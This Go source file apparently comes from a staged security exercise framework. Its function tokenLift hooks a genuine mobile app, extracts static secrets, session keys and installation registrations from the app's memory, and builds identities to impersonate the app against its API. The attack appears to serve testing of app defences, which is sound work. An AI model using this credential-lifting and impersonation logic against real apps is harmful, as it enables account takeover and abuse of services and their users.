package attacker

import (
	"context"
	"errors"

	"keyladder/stages/catalog"
)

// tokenLift takes everything out of the memory of the genuine app while its user, the
// attacker, is signed in: the static secrets, the live session key, and how the
// installation is registered. With all of that in it, a program of one's own is, to the
// API, that app on that phone with that user.
//
//keyladder:code attack-token-lift
func tokenLift(ctx context.Context, g *Ground) (Result, error) {
	phone, found, err := g.hook(ctx)
	if err != nil {
		return stopped(err)
	}
	defer phone.close()
	tries := found.identities(g.Stage.Call)
	if len(tries) == 0 || len(found.sessions) == 0 {
		return Result{Check: catalog.CheckHidden, Obstacle: "no live session key, or no secret, was found in the app's memory"}, nil
	}
	if len(found.devices) == 0 {
		return Result{}, errors.New("the app's requests in its memory name no installation")
	}
	g.Say("In it, too: %d session keys and %d registered installations.", len(found.sessions), len(found.devices))
	return robAs(ctx, g, lifted(tries, found))
}

// lifted are the identities with the sessions and installations that were found. Where
// there is no installation, programs register one.
func lifted(tries []identity, found *loot) []identity {
	var complete []identity
	for _, as := range tries {
		for _, as.session = range found.sessions {
			if len(found.devices) == 0 {
				complete = append(complete, as)
			}
			for _, as.device = range found.devices {
				complete = append(complete, as)
			}
		}
	}
	return complete[:min(len(complete), maxTries)]
}
